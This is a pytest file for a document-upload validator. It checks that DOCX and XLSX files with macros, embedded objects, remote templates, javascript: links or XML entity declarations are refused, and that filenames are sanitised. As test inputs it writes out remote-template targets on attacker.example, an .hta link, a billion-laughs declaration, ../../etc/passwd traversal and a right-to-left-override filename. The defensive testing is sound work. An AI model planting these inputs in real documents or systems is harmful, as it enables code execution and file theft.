def test_an_embedded_ole_object_is_refused():
    package = ole_file("Root", "\x01Ole10Native", "\x01CompObj")
    data = docx_bytes(extra=[("word/embeddings/oleObject1.bin", package)])

    message = refusal(upload("report.docx", data))

    assert "contains an embedded object (word/embeddings/oleObject1.bin)" in message


@pytest.mark.parametrize(
    "target",
    [
        "http://attacker.example/template.dotm",
        "\\\\attacker.example\\share\\template.dotm",
        "file://attacker.example/share/template.dotm",
    ],
)
def test_a_document_that_fetches_its_template_from_elsewhere_is_refused(target):
    template = (f"{RELATIONSHIPS}/attachedTemplate", target, True)
    data = docx_bytes(relationships=[template])

    assert "brings in a template or another file from elsewhere" in refusal(
        upload("report.docx", data)
    )


def test_a_remote_object_linked_into_a_document_is_refused():
    linked = (f"{RELATIONSHIPS}/oleObject", "http://attacker.example/x.hta", True)

    message = refusal(upload("report.docx", docx_bytes(relationships=[linked])))

    assert "from elsewhere" in message


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\pi\\Templates\\Report.dotx",
        "C:\\Users\\pi\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx",
        "file:///Users/pi/Library/Group%20Containers/Normal.dotm",
        "file://localhost/Users/pi/Templates/Report.dotx",
    ],
)
def test_web_links_and_a_template_on_the_authors_own_disk_are_accepted(target):
    data = docx_bytes(
        relationships=[
            (f"{RELATIONSHIPS}/hyperlink", "https://mines.gov.in/", True),
            (f"{RELATIONSHIPS}/attachedTemplate", target, True),
        ]
    )

    assert uploads.check_upload(upload("report.docx", data)).file_type == uploads.DOCX


def test_a_link_that_runs_a_script_is_refused():
    script = (f"{RELATIONSHIPS}/hyperlink", "javascript:alert(1)", True)

    message = refusal(upload("report.docx", docx_bytes(relationships=[script])))

    assert "has a link that runs a script" in message


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_package_whose_xml_declares_entities_is_refused(encoding):
    """A document type could expand entities a billion times ("billion laughs")."""
    declared = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        '<!DOCTYPE Types [<!ENTITY lol "lol">]>'
        f'<Types><Override PartName="/word/document.xml" ContentType="{WORD_MAIN}"/>'
        "</Types>"
    ).encode(encoding)
    data = zip_bytes(**{"[Content_Types].xml": declared, "word/document.xml": "<w/>"})

    assert "is not a valid Word or Excel file" in refusal(upload("report.docx", data))


def test_a_package_with_two_copies_of_a_part_is_refused():
    """Word might read the copy with the macro relationship; the check the other."""
    package = docx_bytes(relationships=[(VBA_RELATIONSHIP, "payload.bin", False)])
    buffer = io.BytesIO(package)
    with (
        zipfile.ZipFile(buffer, "a") as archive,
        pytest.warns(UserWarning, match="Duplicate name"),
    ):
        archive.writestr("word/_rels/document.xml.rels", "<Relationships/>")

    message = refusal(upload("report.docx", buffer.getvalue()))

    assert "is not a valid Word or Excel file" in message


def test_a_word_file_with_macros_is_refused():
    data = docx_bytes(extra=[("word/vbaProject.bin", b"\x00" * 10)])

    assert "macros" in refusal(upload("report.docx", data))


def test_a_macro_enabled_workbook_is_refused():
    data = ooxml_bytes(
        "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    )

    assert "macros" in refusal(upload("budget.xlsx", data))


def test_a_word_file_carrying_a_program_is_refused():
    data = docx_bytes(extra=[("word/embeddings/setup.exe", b"MZ")])

    assert "program or script" in refusal(upload("report.docx", data))


def test_a_zip_whose_main_part_is_missing_is_refused():
    data = zip_bytes(
        **{
            "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" '
            f'ContentType="{WORD_MAIN}"/></Types>'
        }
    )

    assert "not a Word (.docx) or Excel" in refusal(upload("report.docx", data))


def test_only_the_types_asked_for_are_accepted():
    message = refusal(upload("scan.jpg", jpeg_bytes()), allowed=(uploads.PDF,))

    assert "is a JPEG image; only PDF files are accepted here" in message


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\pi\\Desktop\\UC 2025-26.pdf", "UC 2025-26.pdf"),
        ("report\x00\x1b[31m.pdf", "report_31m.pdf"),
        ("invoice\u202etxt.exe", "invoicetxt.pdf"),  # right-to-left override removed
        ("....pdf", "document.pdf"),
        ("a..b....c.pdf", "a.b.c.pdf"),
        ("", "document.pdf"),
        ("CON.pdf", "CON_file.pdf"),
        ("<script>alert(1)</script>.pdf", "script.pdf"),  # "/" ends a folder
        ("<b>Report", "b_Report.pdf"),
        ("Rapport d'étape (final).docx", "Rapport d_étape (final).pdf"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_file_names_are_sanitised_to_a_safe_base_name(given, safe):
    assert uploads.sanitise_filename(given, extension="pdf") == safe


@pytest.mark.parametrize(
    "data",
    [PDF_BYTES, png_bytes(), jpeg_bytes(), docx_bytes()],
    ids=["pdf", "png", "jpeg", "docx"],
)
def test_a_large_upload_kept_on_disk_is_checked_and_left_readable(data):
    """Django keeps uploads over 2.5 MB in a temporary file, not in memory."""
    on_disk = TemporaryUploadedFile("big.pdf", "application/pdf", len(data), None)
    on_disk.write(data)

    uploads.check_upload(on_disk)

    assert on_disk.read() == data
    on_disk.close()
